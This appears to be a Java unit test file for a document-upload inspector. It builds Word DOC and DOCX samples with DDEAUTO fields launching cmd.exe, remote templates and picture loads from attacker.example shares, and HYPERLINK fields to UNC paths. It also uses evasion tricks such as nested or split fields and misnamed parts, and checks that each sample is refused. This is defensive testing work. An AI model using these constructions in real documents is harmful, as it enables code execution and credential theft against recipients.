package dev.attest.documents;

import static dev.attest.documents.DocumentRefusedException.Reason.UNSUPPORTED;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Stream;

import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Review of the upload inspection as an attacker: the same active content said another way than the catalogue says
 * it (a field in a legacy DOC's text, a DOCX part whose XML starts after white space and is not named .xml, a
 * HYPERLINK field to a file share), each refused; and the legitimate neighbours still accepted.
 */
class InspectionNeighboursTests {

    static final long MAX = 10L * 1024 * 1024;
    final FileInspection inspection = new FileInspection(MAX, 100_000_000, 2000,
            200L * 1024 * 1024, 100);

    static Stream<Arguments> sameThingSaidAnotherWay() {
        String header = "<w:hdr xmlns:w=\"" + TestFiles.W + "\"><w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\"
                + "system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p></w:hdr>";
        String headerRels = TestFiles.rels("<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/header\" Target=\"header9.dat\"/>");
        String headerTypes = TestFiles.CONTENT_TYPES.replace("</Types>", "<Override PartName=\"/word/header9.dat\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml\"/></Types>");
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        return Stream.of(
                Arguments.of("DOC: DDEAUTO field in the text (8-bit piece)", "letter.doc",
                        doc("Dear client \u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \u0014x\u0015 ok",
                                true), "runs a DDE command (field 'DDEAUTO'"),
                Arguments.of("DOC: INCLUDEPICTURE field from a share (UTF-16 piece)", "letter.doc",
                        doc("\u0013 INCLUDEPICTURE \"\\\\\\\\attacker.example\\\\s\\\\a.png\" \\d \u0015", false),
                        "loads content from outside the document (field 'INCLUDEPICTURE'"),
                Arguments.of("DOC: lower-case dde split by a nested field's end", "letter.doc",
                        doc("\u0013 \u0013 PAGE \u0015 dde cmd \u0015", true), "has a field"),
                Arguments.of("DOC: field name computed by a nested field", "letter.doc",
                        doc("\u0013\u0013 QUOTE DDEAUTO \u0015 c:\\\\x.exe \u0015", true),
                        "whose name another field computes"),
                Arguments.of("DOCX: header part not named .xml whose XML starts after white space", "letter.docx",
                        TestFiles.docx(Map.of("[Content_Types].xml", headerTypes, "word/_rels/document.xml.rels",
                                headerRels, "word/header9.dat", "\n".repeat(40) + header)),
                        "runs a DDE command (field 'DDEAUTO' in word/header9.dat)"),
                Arguments.of("DOCX: the same after a byte-order mark and tabs", "letter.docx",
                        TestFiles.docx(Map.of("[Content_Types].xml", headerTypes, "word/_rels/document.xml.rels",
                                headerRels, "word/header9.dat", concat(bom, ("\t".repeat(20) + header)
                                        .getBytes(StandardCharsets.UTF_8)))),
                        "runs a DDE command"),
                Arguments.of("DOCX: HYPERLINK field to a file share (credential leak on click)", "letter.docx",
                        TestFiles.docx(Map.of("word/document.xml", TestFiles.body("<w:p><w:fldSimple w:instr=\" "
                                + "HYPERLINK &quot;\\\\\\\\attacker.example\\\\share\\\\statement.docx&quot; \"/></w:p>"))),
                        "not a web or mail address (field 'HYPERLINK'"),
                Arguments.of("DOCX: HYPERLINK field to file: split across runs, after a tooltip switch", "letter.docx",
                        TestFiles.docx(Map.of("word/footer1.xml", TestFiles.body(TestFiles.splitField(" hyperlink ",
                                "\\o \"Statement\" \"file://attacker.example/s/x.exe\"")))),
                        "not a web or mail address"),
                Arguments.of("DOCX: HYPERLINK field to a program next to the document", "letter.docx",
                        TestFiles.docx(Map.of("word/document.xml", TestFiles.body("<w:p><w:fldSimple w:instr=\""
                                + "HYPERLINK payload.exe\"/></w:p>"))), "not a web or mail address"),
                Arguments.of("DOC: template on a file share (the DOC's remote template)", "letter.doc",
                        doc("Hello", true, "\\\\attacker.example\\share\\t.dot"),
                        "loads '\\\\attacker.example\\share\\t.dot' from outside the document (its template)"),
                Arguments.of("DOC: template at a web address", "letter.doc",
                        doc("Hello", false, "https://attacker.example/t.dotm"), "from outside the document"),
                Arguments.of("DOC: HYPERLINK field to a file share", "letter.doc",
                        doc("\u0013 HYPERLINK \"\\\\\\\\attacker.example\\\\s\\\\x.doc\" \u0014click\u0015", true),
                        "not a web or mail address"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("sameThingSaidAnotherWay")
    void refusesTheSameActiveContentSaidAnotherWay(String what, String fileName, byte[] bytes, String reason) {
        assertThatThrownBy(() -> inspection.inspect(fileName, bytes))
                .isInstanceOf(DocumentRefusedException.class)
                .hasMessageContaining(reason)
                .satisfies(e -> assertThat(((DocumentRefusedException) e).reason()).isEqualTo(UNSUPPORTED));
    }

    @Test
    void ordinaryFieldsLinksAndPartsStillPass() {
        assertThat(inspection.inspect("letter.doc", doc("Page \u0013 PAGE \\* MERGEFORMAT \u00141\u0015 of "
                + "\u0013 NUMPAGES \u00142\u0015, see \u0013 HYPERLINK \"https://bank.example.com/\" \\o \"Bank\" "
                + "\u0014site\u0015 and \u0013 HYPERLINK \\l \"_Toc1\" \u0014above\u0015", true)).label())
                .isEqualTo("DOC");
        assertThat(inspection.inspect("letter.doc", doc("Plain text, in UTF-16: \u00e9\u20ac", false)).label())
                .isEqualTo("DOC");
        assertThat(inspection.inspect("letter.doc", doc("Hello", true,
                "C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")).label())
                .as("a template on the author's own disk").isEqualTo("DOC");
        InspectedFile docx = inspection.inspect("letter.docx", TestFiles.docx(Map.of("word/document.xml",
                TestFiles.body("<w:p><w:fldSimple w:instr=\" HYPERLINK &quot;https://bank.example.com/help&quot; "
                        + "\\o &quot;Help&quot; \"/></w:p><w:p><w:fldSimple w:instr=\"HYPERLINK \\l &quot;_Toc2&quot;\"/>"
                        + "</w:p>" + TestFiles.splitField(" HYPERLINK \\* MERGEFORMAT \\l \"x\" ")),
                "word/media/image1.png", TestFiles.png(20, 20), "word/media/image2.jpeg", TestFiles.jpeg(20, 20),
                "docProps/thumbnail.emf", new byte[] {1, 0, 0, 0, 0x6c, 0, 0, 0, 0, 0, 0, 0, '<', 0})));
        assertThat(docx.links()).containsExactly("https://bank.example.com/help");
    }

    @Test
    void xmlIsToldFromPicturesWhateverItsName() {
        assertThat(OfficeInspection.looksLikeXml(("\n".repeat(100) + "<a/>").getBytes(StandardCharsets.UTF_8))).isTrue();
        assertThat(OfficeInspection.looksLikeXml(" <a/>".getBytes(StandardCharsets.UTF_16LE))).isTrue();
        assertThat(OfficeInspection.looksLikeXml(TestFiles.png(5, 5))).isFalse();
        assertThat(OfficeInspection.looksLikeXml(TestFiles.jpeg(5, 5))).isFalse();
        assertThat(OfficeInspection.looksLikeXml(new byte[0])).isFalse();
    }

    /**
     * A Word 97 binary document whose text is one piece, as Word writes it: the file information block locates the
     * piece table (CLX) in the table stream; the piece says where the text is and whether it is 8-bit.
     */
    static byte[] doc(String text, boolean eightBit) {
        return doc(text, eightBit, null);
    }

    /** The same with a template named in its associated strings (SttbfAssoc, extended: UTF-16). */
    static byte[] doc(String text, boolean eightBit, String template) {
        int textAt = 0x600;
        byte[] encoded = text.getBytes(eightBit ? Charset.forName("windows-1252") : StandardCharsets.UTF_16LE);
        ByteBuffer fib = ByteBuffer.allocate(textAt + encoded.length).order(ByteOrder.LITTLE_ENDIAN);
        fib.putShort(0, (short) 0xA5EC);
        fib.putShort(2, (short) 0x00C1);
        fib.putShort(10, (short) 0x0200); // fWhichTblStm: 1Table
        fib.putShort(32, (short) 14); // csw
        fib.putShort(62, (short) 22); // cslw
        fib.putShort(152, (short) 0x5D); // cbRgFcLcb (Word 97)
        byte[] clx = clx(text.length(), eightBit ? (textAt * 2) | 0x40000000 : textAt);
        fib.putInt(0x1A2, 0); // fcClx
        fib.putInt(0x1A6, clx.length); // lcbClx
        fib.put(textAt, encoded);
        byte[] table = clx;
        if (template != null) {
            ByteBuffer assoc = ByteBuffer.allocate(6 + 18 * 2 + template.length() * 2).order(ByteOrder.LITTLE_ENDIAN);
            assoc.putShort((short) 0xFFFF).putShort((short) 18).putShort((short) 0);
            for (int i = 0; i < 18; i++) {
                String value = i == 1 ? template : "";
                assoc.putShort((short) value.length());
                assoc.put(value.getBytes(StandardCharsets.UTF_16LE));
            }
            table = concat(clx, assoc.array());
            fib.putInt(0x19A, clx.length); // fcSttbfAssoc
            fib.putInt(0x19E, assoc.capacity()); // lcbSttbfAssoc
        }
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            fs.createDocument(new ByteArrayInputStream(fib.array()), "WordDocument");
            fs.createDocument(new ByteArrayInputStream(table), "1Table");
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] clx(int characters, int fc) {
        ByteBuffer clx = ByteBuffer.allocate(1 + 4 + 8 + 8).order(ByteOrder.LITTLE_ENDIAN);
        clx.put((byte) 0x02).putInt(16); // Pcdt: a PlcPcd of one piece
        clx.putInt(0).putInt(characters); // the piece's character positions
        clx.putShort((short) 0).putInt(fc).putShort((short) 0); // Pcd
        return clx.array();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }
}
